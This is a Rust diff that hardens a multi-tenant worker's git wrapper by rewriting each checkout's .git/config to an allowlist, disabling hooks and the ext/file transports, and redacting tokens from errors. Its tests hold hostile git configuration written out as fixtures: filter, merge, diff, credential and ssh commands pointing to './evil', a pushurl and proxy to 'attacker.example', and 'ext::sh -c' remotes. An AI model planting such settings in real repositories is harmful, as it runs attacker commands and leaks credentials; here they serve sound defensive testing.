@@ -4,6 +4,58 @@
 //! worktree or reset, and its network transports would add minutes to a clean build. For clone,
 //! fetch, switch and push we run `git` itself: never through a shell, with argv built from
 //! validated ids only, no terminal prompts, stdin closed, and a time limit.
+//!
+//! # A tenant's repository never runs anything with the worker's rights
+//!
+//! The agent and the build run the tenant's code in the checkout, and can write its `.git`.
+//! Git runs commands named in its configuration and in `.git/hooks`, and the repository's own
+//! `.git/config` is read by every `git` call (and by gix): `filter.<driver>.clean`/`smudge`/
+//! `process` run on checkout, switch, status and add for every path `.gitattributes` (which the
+//! tenant also writes) gives that driver; `merge.<driver>.driver` on merge; `diff.external` and
+//! `diff.<driver>.command`/`textconv` on diffs; `core.fsmonitor` on every index refresh;
+//! `core.sshCommand`, `core.gitProxy`, `remote.<name>.uploadpack`/`receivepack` and
+//! `credential.helper` on fetch and push (a credential helper is even handed the token on
+//! success); `core.pager`, `core.editor`, `sequence.editor`; `include.path`/`includeIf` pull in
+//! any other file as configuration; `url.<base>.insteadOf`, `remote.origin.pushurl` and
+//! `http.*` send the worker's credentials elsewhere; `core.worktree` points the checkout at
+//! another tenant's files; `protocol.<name>.allow` reopens transports. The driver names of
+//! `filter.*`, `merge.*` and `diff.*` are the tenant's to choose, so no fixed list of `-c`
+//! overrides can neutralise them, and `-c` does nothing for gix.
+//!
+//! So the worker owns `.git/config`: before every `git` call in a checkout, and before the gix
+//! work that reads the worktree (`Workspace` calls [`GitProgram::secure_checkout`]), the file is
+//! rewritten to what the worker itself needs and nothing else: the repository format (`core.
+//! repositoryformatversion`, `extensions.objectformat`/`refstorage`), the file system facts a
+//! clone records (`core.filemode`, `symlinks`, `ignorecase`, `precomposeunicode`, `bare =
+//! false`, `logallrefupdates`), `remote.origin` with the configured remote's URL and the
+//! standard fetch refspec, and each branch's `remote = origin`/`merge = refs/heads/...`. Every
+//! other key is dropped, whatever its name, so a driver or a setting we never heard of cannot
+//! survive either. The file is parsed (gix-config, no includes) only to read those few values;
+//! what git then reads is the file we wrote, with values quoted by us, so a parser difference
+//! can only lose an allowed value, never let another one through. Writing only when it differs
+//! keeps the common case a read. A `.git` that is not a plain folder (a `gitdir:` file or a
+//! symlink to another repository) or that has a `commondir` (its refs and config elsewhere) is
+//! refused.
+//!
+//! On top of that, every call passes
+//! - `core.hooksPath=/dev/null`: no hook runs (`.git/hooks` is the tenant's to write);
+//! - `core.fsmonitor=false`;
+//! - `protocol.ext.allow=never`: `ext::` runs a command as the "transport";
+//! - `protocol.file.allow=never` unless the configured remote is itself a local path or a
+//!   `file://` URL (tests, a volume of bare repositories): no `origin` can be pointed at another
+//!   tenant's repository on this machine.
+//!
+//! and `GIT_ALLOW_PROTOCOL` is removed from git's environment (it would override those).
+//! The operator's own configuration (`/etc/gitconfig`, the worker's `~/.gitconfig`: credential
+//! helpers, `core.sshCommand`, proxies) is left as configured; keeping it out of a tenant's
+//! reach is the sandbox's job.
+//!
+//! What this does not cover: a process of the tenant's that outlives its agent or build run and
+//! rewrites `.git/config` between our check and git's read. Those are ended with their process
+//! group; one that escaped it is the sandbox's to stop.
+//!
+//! Every error that leaves here is redacted (`crate::redact`): the remote URL with its token is
+//! in clone's argv and in git's messages.
 
 use std::path::{Path, PathBuf};
 use std::process::Stdio;
@@ -11,11 +63,13 @@ use std::time::Duration;
 
 use tokio::process::Command;
 
+use crate::redact::redact_string;
+
 /// Network operations (clone, fetch, push) may take a while on a big site; local ones are quick.
 const NETWORK_TIMEOUT: Duration = Duration::from_secs(300);
 const LOCAL_TIMEOUT: Duration = Duration::from_secs(60);
 
-/// What went wrong running `git`.
+/// What went wrong running `git`. Argv and git's messages are redacted.
 #[derive(Debug, thiserror::Error)]
 pub enum GitCommandError {
     #[error("could not start `git`: {0}")]
@@ -28,6 +82,67 @@ pub enum GitCommandError {
     },
     #[error("`git {args}` did not finish within {timeout:?}")]
     TimedOut { args: String, timeout: Duration },
+    #[error("refusing to run git in {dir}: {reason}")]
+    Unsafe { dir: PathBuf, reason: String },
+    #[error("could not rewrite {path}: {source}")]
+    Config {
+        path: PathBuf,
+        #[source]
+        source: std::io::Error,
+    },
+}
+
+/// What git may do for one workspace, from its configured remote: which transports are open,
+/// and what `origin` is.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct GitPolicy {
+    /// The upstream as configured; a checkout's `origin` is always this.
+    remote: Option<String>,
+    /// The remote is a local path or a `file://` URL, so the file transport stays open.
+    file_transport: bool,
+}
+
+impl GitPolicy {
+    pub fn for_remote(remote: Option<&str>) -> GitPolicy {
+        GitPolicy {
+            remote: remote.map(str::to_owned),
+            file_transport: remote.is_some_and(uses_file_transport),
+        }
+    }
+
+    pub fn allows_file_transport(&self) -> bool {
+        self.file_transport
+    }
+
+    /// The `-c` settings every call carries.
+    fn overrides(&self) -> Vec<&'static str> {
+        let mut args = vec![
+            "-c",
+            "core.hooksPath=/dev/null",
+            "-c",
+            "core.fsmonitor=false",
+            "-c",
+            "protocol.ext.allow=never",
+        ];
+        if !self.file_transport {
+            args.extend(["-c", "protocol.file.allow=never"]);
+        }
+        args
+    }
+}
+
+/// Whether git reaches `remote` through its file transport: a `file://` URL, or a local path
+/// (git's rule: no `:` at all, or a `/` before the first `:`; `host:path` is ssh, and
+/// `helper::address` a remote helper).
+fn uses_file_transport(remote: &str) -> bool {
+    if let Some((scheme, _)) = remote.split_once("://") {
+        return scheme.eq_ignore_ascii_case("file");
+    }
+    match (remote.find(':'), remote.find('/')) {
+        (None, _) => true,
+        (Some(colon), Some(slash)) => slash < colon,
+        (Some(_), None) => false,
+    }
 }
 
 /// The `git` program, run in one repository.
@@ -35,11 +150,29 @@ pub enum GitCommandError {
 pub struct GitProgram {
     /// The working directory of every call (`git -C` would work too; this keeps argv short).
     dir: PathBuf,
+    policy: GitPolicy,
+    /// `dir` is a checkout whose `.git/config` is made safe before each call (false for clone
+    /// and `ls-remote`, which run outside any repository).
+    checkout: bool,
 }
 
 impl GitProgram {
-    pub fn new(dir: impl Into<PathBuf>) -> GitProgram {
-        GitProgram { dir: dir.into() }
+    /// `git` in the checkout `dir` of a workspace whose remote gave `policy`.
+    pub fn new(dir: impl Into<PathBuf>, policy: &GitPolicy) -> GitProgram {
+        GitProgram {
+            dir: dir.into(),
+            policy: policy.clone(),
+            checkout: true,
+        }
+    }
+
+    /// `git` outside any repository (clone, `ls-remote`), for `remote`.
+    fn outside(dir: impl Into<PathBuf>, remote: &str) -> GitProgram {
+        GitProgram {
+            dir: dir.into(),
+            policy: GitPolicy::for_remote(Some(remote)),
+            checkout: false,
+        }
     }
 
     /// Clone `remote` into `target`. `target` must not exist; the caller clones into a
@@ -48,7 +181,7 @@ impl GitProgram {
         let parent = target.parent().unwrap_or(Path::new("."));
         let target = target.as_os_str().to_string_lossy().into_owned();
         // `--` ends the options: a remote that starts with `-` is still only a URL.
-        GitProgram::new(parent)
+        GitProgram::outside(parent, remote)
             .run(
                 &["clone", "--quiet", "--", remote, &target],
                 NETWORK_TIMEOUT,
@@ -259,36 +392,52 @@ impl GitProgram {
 
     /// Whether `remote` answers (`git ls-remote`), for `edit-worker doctor`.
     pub async fn ls_remote(remote: &str) -> Result<(), GitCommandError> {
-        GitProgram::new(std::env::temp_dir())
+        GitProgram::outside(std::env::temp_dir(), remote)
             .run(&["ls-remote", "--heads", "--", remote], NETWORK_TIMEOUT)
             .await
             .map(drop)
     }
 
+    /// Make the checkout's `.git/config` the worker's again (see the module doc): only what the
+    /// worker needs, `origin` the configured remote. Call before gix reads the worktree; every
+    /// `git` call here does it itself.
+    pub async fn secure_checkout(&self) -> Result<(), GitCommandError> {
+        let dir = self.dir.clone();
+        let remote = self.policy.remote.clone();
+        match tokio::task::spawn_blocking(move || secure_config(&dir, remote.as_deref())).await {
+            Ok(result) => result,
+            Err(e) => Err(GitCommandError::Unsafe {
+                dir: self.dir.clone(),
+                reason: format!("checking the configuration ended unexpectedly: {e}"),
+            }),
+        }
+    }
+
     /// Run git with `args` in this repository and return its stdout.
     async fn run(&self, args: &[&str], timeout: Duration) -> Result<String, GitCommandError> {
+        if self.checkout {
+            self.secure_checkout().await?;
+        }
         let mut cmd = Command::new("git");
         // The checkout's own hooks and command-running settings never run with the worker's
         // rights: a tenant's agent or build can write `.git/hooks` or `.git/config`.
-        cmd.args([
-            "-c",
-            "core.hooksPath=/dev/null",
-            "-c",
-            "core.fsmonitor=false",
-        ])
-        .args(args)
-        .current_dir(&self.dir)
-        // Never wait for a person: no prompts for credentials, no editor, no pager.
-        .env("GIT_TERMINAL_PROMPT", "0")
-        .env("GIT_EDITOR", "true")
-        .env("GIT_PAGER", "cat")
-        .env("LC_ALL", "C")
-        .stdin(Stdio::null())
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped())
-        // A git that outlives its time limit is killed, not left behind.
-        .kill_on_drop(true);
-        let joined = args.join(" ");
+        cmd.args(self.policy.overrides())
+            .args(args)
+            .current_dir(&self.dir)
+            // Never wait for a person: no prompts for credentials, no editor, no pager.
+            .env("GIT_TERMINAL_PROMPT", "0")
+            .env("GIT_EDITOR", "true")
+            .env("GIT_PAGER", "cat")
+            .env("LC_ALL", "C")
+            // It would replace the `protocol.*.allow` settings above.
+            .env_remove("GIT_ALLOW_PROTOCOL")
+            .stdin(Stdio::null())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            // A git that outlives its time limit is killed, not left behind.
+            .kill_on_drop(true);
+        // The remote URL (with a token in it) is in clone's argv.
+        let joined = redact_string(args.join(" "));
         let output = match tokio::time::timeout(timeout, cmd.output()).await {
             Ok(result) => result.map_err(GitCommandError::Spawn)?,
             Err(_) => {
@@ -304,8 +453,446 @@ impl GitProgram {
             Err(GitCommandError::Failed {
                 args: joined,
                 status: output.status.to_string(),
-                stderr: String::from_utf8_lossy(&output.stderr).trim().to_owned(),
+                stderr: redact_string(String::from_utf8_lossy(&output.stderr).trim().to_owned()),
             })
         }
+    }
+}
+
+/// Check the checkout at `dir` and rewrite its `.git/config` to `safe_config` of itself when
+/// it differs.
+fn secure_config(dir: &Path, remote: Option<&str>) -> Result<(), GitCommandError> {
+    let unsafe_because = |reason: &str| GitCommandError::Unsafe {
+        dir: dir.to_owned(),
+        reason: reason.to_owned(),
+    };
+    let git_dir = dir.join(".git");
+    match std::fs::symlink_metadata(&git_dir) {
+        Ok(meta) if meta.is_dir() => {}
+        Ok(_) => return Err(unsafe_because(".git is not a folder")),
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
+            return Err(unsafe_because("it has no .git folder"));
+        }
+        Err(e) => return Err(unsafe_because(&format!(".git: {e}"))),
+    }
+    if std::fs::symlink_metadata(git_dir.join("commondir")).is_ok() {
+        return Err(unsafe_because(
+            ".git/commondir points the repository elsewhere",
+        ));
+    }
+    let path = git_dir.join("config");
+    let config_error = |source| GitCommandError::Config {
+        path: path.clone(),
+        source,
+    };
+    // A symlink's target is not ours to read: it counts as an empty file, and is replaced.
+    let current = match std::fs::symlink_metadata(&path) {
+        Ok(meta) if meta.is_file() => std::fs::read(&path).map_err(config_error)?,
+        Ok(_) => Vec::new(),
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Vec::new(),
+        Err(e) => return Err(config_error(e)),
+    };
+    let wanted = safe_config(&current, remote);
+    if current == wanted.as_bytes() {
+        return Ok(());
+    }
+    // Written beside it and renamed over it, as git does. `create_new` never follows a planted
+    // symlink; a lock file left behind is ours to remove (one git call at a time per checkout).
+    let lock = git_dir.join("config.lock");
+    let write = || -> std::io::Result<()> {
+        use std::io::Write;
+        let mut file = std::fs::OpenOptions::new()
+            .write(true)
+            .create_new(true)
+            .open(&lock)?;
+        file.write_all(wanted.as_bytes())?;
+        file.sync_all()
+    };
+    if let Err(e) = write() {
+        if e.kind() != std::io::ErrorKind::AlreadyExists {
+            return Err(config_error(e));
+        }
+        std::fs::remove_file(&lock).map_err(config_error)?;
+        write().map_err(config_error)?;
+    }
+    std::fs::rename(&lock, &path).map_err(config_error)?;
+    if !current.is_empty() {
+        tracing::info!(dir = %dir.display(), "rewrote the checkout's .git/config: only the worker's own settings are kept");
+    }
+    Ok(())
+}
+
+/// The standard fetch refspec of `origin`.
+const ORIGIN_FETCH: &str = "+refs/heads/*:refs/remotes/origin/*";
+
+/// The configuration a checkout may have, from its current one (`current`, the bytes of
+/// `.git/config`) and the configured remote: see the module doc. A file that does not parse
+/// keeps nothing of its own.
+fn safe_config(current: &[u8], remote: Option<&str>) -> String {
+    let file = gix::config::File::from_bytes_no_includes(
+        current,
+        gix::config::file::Metadata::from(gix::config::Source::Local),
+        gix::config::file::init::Options::default(),
+    )
+    .ok();
+    let get = |key: &str| -> Option<String> {
+        file.as_ref()
+            .and_then(|f| f.string(key))
+            .map(|v| v.to_string())
+    };
+    let boolean = |key: &str, default: Option<bool>| -> Option<bool> {
+        match get(key).map(|v| v.trim().to_ascii_lowercase()).as_deref() {
+            Some("true" | "yes" | "on" | "1") => Some(true),
+            Some("false" | "no" | "off" | "0" | "") => Some(false),
+            _ => default,
+        }
+    };
+    let mut out = String::from("[core]\n");
+    let version = match get("core.repositoryformatversion")
+        .as_deref()
+        .map(str::trim)
+    {
+        Some("1") => 1,
+        _ => 0,
+    };
+    out.push_str(&format!("\trepositoryformatversion = {version}\n"));
+    for (key, default) in [
+        ("filemode", Some(true)),
+        ("symlinks", None),
+        ("ignorecase", None),
+        ("precomposeunicode", None),
+    ] {
+        if let Some(value) = boolean(&format!("core.{key}"), default) {
+            out.push_str(&format!("\t{key} = {value}\n"));
+        }
+    }
+    out.push_str("\tbare = false\n\tlogallrefupdates = true\n");
+    if version == 1 {
+        let mut extensions = String::new();
+        for (key, allowed) in [
+            ("objectformat", &["sha1", "sha256"][..]),
+            ("refstorage", &["files", "reftable"][..]),
+        ] {
+            if let Some(value) = get(&format!("extensions.{key}"))
+                .map(|v| v.trim().to_ascii_lowercase())
+                .filter(|v| allowed.contains(&v.as_str()))
+            {
+                extensions.push_str(&format!("\t{key} = {value}\n"));
+            }
+        }
+        if !extensions.is_empty() {
+            out.push_str("[extensions]\n");
+            out.push_str(&extensions);
+        }
+    }
+    // `origin` is the configured remote. Without one the worker never fetches or pushes; the
+    // operator's URL stays for people who look at the checkout.
+    let origin = match remote {
+        Some(remote) => Some(remote.to_owned()),
+        None => get("remote.origin.url"),
+    };
+    if let Some(url) = origin.filter(|u| !u.contains(['\n', '\0'])) {
+        out.push_str("[remote \"origin\"]\n");
+        out.push_str(&format!("\turl = {}\n", config_value(&url)));
+        out.push_str(&format!("\tfetch = {ORIGIN_FETCH}\n"));
+    }
+    if let Some(sections) = file.as_ref().and_then(|f| f.sections_by_name("branch")) {
+        let mut seen = std::collections::BTreeSet::new();
+        for section in sections {
+            let Some(name) = section.header().subsection_name() else {
+                continue;
+            };
+            let name = name.to_string();
+            let plain = !name.is_empty()
+                && !name.contains(['"', '\\', '\n', '\0'])
+                && !name.starts_with('-');
+            if !plain || !seen.insert(name.clone()) {
+                continue;
+            }
+            let remote_is_origin = section.value("remote").is_some_and(|v| v == "origin");
+            let merge = section.value("merge").map(|v| v.to_string());
+            let merge = merge.filter(|m| {
+                m.starts_with("refs/heads/") && !m.contains(['"', '\\', '\n', '\0', ' ', '\t'])
+            });
+            if let (true, Some(merge)) = (remote_is_origin, merge) {
+                out.push_str(&format!(
+                    "[branch \"{name}\"]\n\tremote = origin\n\tmerge = {merge}\n"
+                ));
+            }
+        }
+    }
+    out
+}
+
+/// A value as git's config syntax reads it back: bare when that is unambiguous, else quoted
+/// with `\\`, `\"`, `\t` escaped.
+fn config_value(value: &str) -> String {
+    let bare = !value.is_empty()
+        && !value.starts_with([' ', '\t'])
+        && !value.ends_with([' ', '\t'])
+        && !value.contains(['"', '\\', '#', ';', '\t', '\n', '\r']);
+    if bare {
+        return value.to_owned();
+    }
+    let mut quoted = String::from("\"");
+    for c in value.chars() {
+        match c {
+            '\\' => quoted.push_str("\\\\"),
+            '"' => quoted.push_str("\\\""),
+            '\t' => quoted.push_str("\\t"),
+            c => quoted.push(c),
+        }
+    }
+    quoted.push('"');
+    quoted
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn git(dir: &Path, args: &[&str]) -> String {
+        let out = std::process::Command::new("git")
+            .args(args)
+            .current_dir(dir)
+            .env("GIT_AUTHOR_NAME", "t")
+            .env("GIT_AUTHOR_EMAIL", "t@t")
+            .env("GIT_COMMITTER_NAME", "t")
+            .env("GIT_COMMITTER_EMAIL", "t@t")
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "git {args:?}: {out:?}");
+        String::from_utf8_lossy(&out.stdout).trim().to_owned()
+    }
+
+    /// A bare repository with one commit on `main`.
+    fn bare(dir: &Path) -> PathBuf {
+        let bare = dir.join("up.git");
+        std::fs::create_dir_all(&bare).unwrap();
+        git(&bare, &["init", "-q", "--bare", "-b", "main"]);
+        let seed = dir.join("seed");
+        std::fs::create_dir_all(&seed).unwrap();
+        git(&seed, &["init", "-q", "-b", "main"]);
+        std::fs::write(seed.join("a.txt"), "a\n").unwrap();
+        git(&seed, &["add", "-A"]);
+        git(&seed, &["commit", "-qm", "init"]);
+        git(&seed, &["push", "-q", bare.to_str().unwrap(), "main"]);
+        bare
+    }
+
+    #[test]
+    fn file_transport_is_what_git_takes_for_local() {
+        for local in [
+            "/srv/git/c/p.git",
+            "relative/path.git",
+            "up.git",
+            "file:///srv/git/c/p.git",
+            "FILE:///x",
+            "./a:b",
+        ] {
+            assert!(uses_file_transport(local), "{local}");
+        }
+        for remote in [
+            "https://github.com/o/r.git",
+            "https://x:tok@127.0.0.1:9/c/p.git",
+            "ssh://git@host/r",
+            "git@github.com:o/r.git",
+            "host:path",
+            "ext::sh -c touch% /tmp/x",
+            "codecommit::us-east-1://repo",
+        ] {
+            assert!(!uses_file_transport(remote), "{remote}");
+        }
+        assert!(GitPolicy::for_remote(Some("/srv/x.git")).allows_file_transport());
+        assert!(!GitPolicy::for_remote(Some("https://h/x.git")).allows_file_transport());
+        assert!(!GitPolicy::for_remote(None).allows_file_transport());
+        let https = GitPolicy::for_remote(Some("https://h/x.git")).overrides();
+        assert!(https.contains(&"protocol.file.allow=never"));
+        assert!(https.contains(&"protocol.ext.allow=never"));
+        assert!(https.contains(&"core.hooksPath=/dev/null"));
+        let local = GitPolicy::for_remote(Some("/srv/x.git")).overrides();
+        assert!(!local.contains(&"protocol.file.allow=never"));
+        assert!(local.contains(&"protocol.ext.allow=never"));
+    }
+
+    const CLONED: &str = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n[remote \"origin\"]\n\turl = /srv/git/c/p.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n";
+
+    #[test]
+    fn a_fresh_clones_configuration_is_kept_as_it_is() {
+        assert_eq!(
+            safe_config(CLONED.as_bytes(), Some("/srv/git/c/p.git")),
+            CLONED
+        );
+    }
+
+    #[test]
+    fn a_tenants_configuration_keeps_only_what_the_worker_needs() {
+        let hostile = format!(
+            "{CLONED}\
+             [include]\n\tpath = /etc/other-tenant/config\n\
+             [includeIf \"gitdir:/\"]\n\tpath = ../../evil\n\
+             [core]\n\thooksPath = .githooks\n\tfsmonitor = ./evil\n\tsshCommand = ./evil\n\
+             \tgitProxy = ./evil\n\tpager = ./evil\n\teditor = ./evil\n\tworktree = /other/tenant\n\
+             \tfilemode = false\n\
+             [filter \"lfs2\"]\n\tclean = ./evil\n\tsmudge = ./evil\n\tprocess = ./evil\n\
+             [merge \"ours2\"]\n\tdriver = ./evil %O %A %B\n\
+             [diff]\n\texternal = ./evil\n[diff \"bin\"]\n\ttextconv = ./evil\n\
+             [credential]\n\thelper = !./evil\n\
+             [remote \"origin\"]\n\turl = /other/tenant.git\n\tpushurl = https://attacker.example/x.git\n\
+             \tuploadpack = ./evil\n\treceivepack = ./evil\n\
+             [url \"https://attacker.example/\"]\n\tinsteadOf = /srv/git/\n\
+             [protocol \"ext\"]\n\tallow = always\n\
+             [http]\n\textraHeader = X: y\n\tproxy = http://attacker.example\n\
+             [uploadpack]\n\tpackObjectsHook = ./evil\n\
+             [extensions]\n\tworktreeConfig = true\n\
+             [branch \"thread-t\"]\n\tremote = origin\n\tmerge = refs/heads/thread-t\n\
+             [branch \"thread-x\"]\n\tremote = /other/tenant.git\n\tmerge = refs/heads/thread-x\n"
+        );
+        let safe = safe_config(hostile.as_bytes(), Some("/srv/git/c/p.git"));
+        assert_eq!(
+            safe,
+            "[core]\n\trepositoryformatversion = 0\n\tfilemode = false\n\tbare = false\n\
+             \tlogallrefupdates = true\n[remote \"origin\"]\n\turl = /srv/git/c/p.git\n\
+             \tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\
+             \tmerge = refs/heads/main\n[branch \"thread-t\"]\n\tremote = origin\n\
+             \tmerge = refs/heads/thread-t\n"
+        );
+        assert!(!safe.contains("evil") && !safe.contains("attacker") && !safe.contains("other"));
+    }
+
+    #[test]
+    fn what_does_not_parse_keeps_nothing_of_its_own() {
+        let safe = safe_config(b"[core\n\x00garbage = \"", Some("https://h/r.git"));
+        assert_eq!(
+            safe,
+            "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\
+             \tlogallrefupdates = true\n[remote \"origin\"]\n\turl = https://h/r.git\n\
+             \tfetch = +refs/heads/*:refs/remotes/origin/*\n"
+        );
+        // Without a configured remote, the operator's `origin` URL stays (and nothing else).
+        let kept = safe_config(CLONED.as_bytes(), None);
+        assert_eq!(kept, CLONED);
+    }
+
+    #[test]
+    fn values_are_written_as_git_reads_them_back() {
+        let dir = tempfile::tempdir().unwrap();
+        let url = "/srv/odd path/#x;y\\\"z\".git";
+        let text = safe_config(b"", Some(url));
+        std::fs::write(dir.path().join("config"), &text).unwrap();
+        let read = git(
+            dir.path(),
+            &["config", "--file", "config", "--get", "remote.origin.url"],
+        );
+        assert_eq!(read, url);
+    }
+
+    #[tokio::test]
+    async fn a_checkouts_configuration_is_rewritten_before_git_runs() {
+        let dir = tempfile::tempdir().unwrap();
+        let up = bare(dir.path());
+        let remote = up.display().to_string();
+        let ws = dir.path().join("ws");
+        GitProgram::clone_into(&remote, &ws).await.unwrap();
+        let policy = GitPolicy::for_remote(Some(&remote));
+        let config = ws.join(".git/config");
+        let before = std::fs::read_to_string(&config).unwrap();
+        // A tenant points origin elsewhere and adds a filter driver.
+        let marker = dir.path().join("ran");
+        std::fs::write(
+            &config,
+            format!(
+                "{before}[remote \"origin\"]\n\turl = /elsewhere.git\n[filter \"x\"]\n\tsmudge = \"touch {}\"\n",
+                marker.display()
+            ),
+        )
+        .unwrap();
+        GitProgram::new(&ws, &policy).fetch().await.unwrap();
+        assert_eq!(std::fs::read_to_string(&config).unwrap(), before);
+        assert!(!marker.exists());
+        // A planted `.git/config.lock` (a symlink to a file of the worker's) is not followed.
+        let victim = dir.path().join("victim");
+        std::fs::write(&victim, "keep").unwrap();
+        std::os::unix::fs::symlink(&victim, ws.join(".git/config.lock")).unwrap();
+        std::fs::write(&config, format!("{before}[core]\n\tpager = x\n")).unwrap();
+        GitProgram::new(&ws, &policy)
+            .secure_checkout()
+            .await
+            .unwrap();
+        assert_eq!(std::fs::read_to_string(&config).unwrap(), before);
+        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep");
+        // A `.git` that sends git elsewhere is refused.
+        std::fs::write(ws.join(".git/commondir"), "../../other/.git").unwrap();
+        let refused = GitProgram::new(&ws, &policy).fetch().await;
+        assert!(
+            matches!(refused, Err(GitCommandError::Unsafe { .. })),
+            "{refused:?}"
+        );
+    }
+
+    #[tokio::test]
+    async fn ext_remotes_are_refused() {
+        let dir = tempfile::tempdir().unwrap();
+        let marker = dir.path().join("ran");
+        let remote = format!("ext::sh -c touch% {}", marker.display());
+        let refused = GitProgram::ls_remote(&remote).await;
+        let text = refused.unwrap_err().to_string();
+        assert!(text.contains("transport 'ext' not allowed"), "{text}");
+        assert!(!marker.exists());
+        // Also when git's environment would allow it.
+        let up = bare(dir.path());
+        let ws = dir.path().join("ws");
+        GitProgram::clone_into(&up.display().to_string(), &ws)
+            .await
+            .unwrap();
+        let git = GitProgram::new(&ws, &GitPolicy::for_remote(Some(up.to_str().unwrap())));
+        let refused = git.run(&["ls-remote", &remote], LOCAL_TIMEOUT).await;
+        assert!(refused.is_err());
+        assert!(!marker.exists());
+    }
+
+    #[tokio::test]
+    async fn the_file_transport_is_open_only_for_a_local_remote() {
+        let dir = tempfile::tempdir().unwrap();
+        let up = bare(dir.path());
+        let local = up.display().to_string();
+        // Configured as a local path (and as a file:// URL): clone and fetch work.
+        let ws = dir.path().join("ws");
+        GitProgram::clone_into(&local, &ws).await.unwrap();
+        GitProgram::new(&ws, &GitPolicy::for_remote(Some(&local)))
+            .fetch()
+            .await
+            .unwrap();
+        let url = format!("file://{local}");
+        GitProgram::clone_into(&url, &dir.path().join("ws2"))
+            .await
+            .unwrap();
+        // A workspace whose remote is https cannot reach a repository on this machine.
+        let https = GitPolicy::for_remote(Some("https://127.0.0.1:9/c/p.git"));
+        let git = GitProgram::new(&ws, &https);
+        for target in [local.as_str(), url.as_str()] {
+            let refused = git
+                .run(&["ls-remote", "--", target], LOCAL_TIMEOUT)
+                .await
+                .unwrap_err()
+                .to_string();
+            assert!(
+                refused.contains("transport 'file' not allowed"),
+                "{refused}"
+            );
+        }
+    }
+
+    #[tokio::test]
+    async fn errors_carry_no_token() {
+        let token = "ghp_SECRETSECRETSECRETSECRETSECRETSECRET12";
+        let remote = format!("https://x-access-token:{token}@127.0.0.1:9/c/p.git");
+        let dir = tempfile::tempdir().unwrap();
+        let failed = GitProgram::clone_into(&remote, &dir.path().join("ws"))
+            .await
+            .unwrap_err();
+        let text = format!("{failed} {failed:?}");
+        assert!(!text.contains(token), "{text}");
+        assert!(text.contains("https://***@127.0.0.1:9/c/p.git"), "{text}");
     }
 }
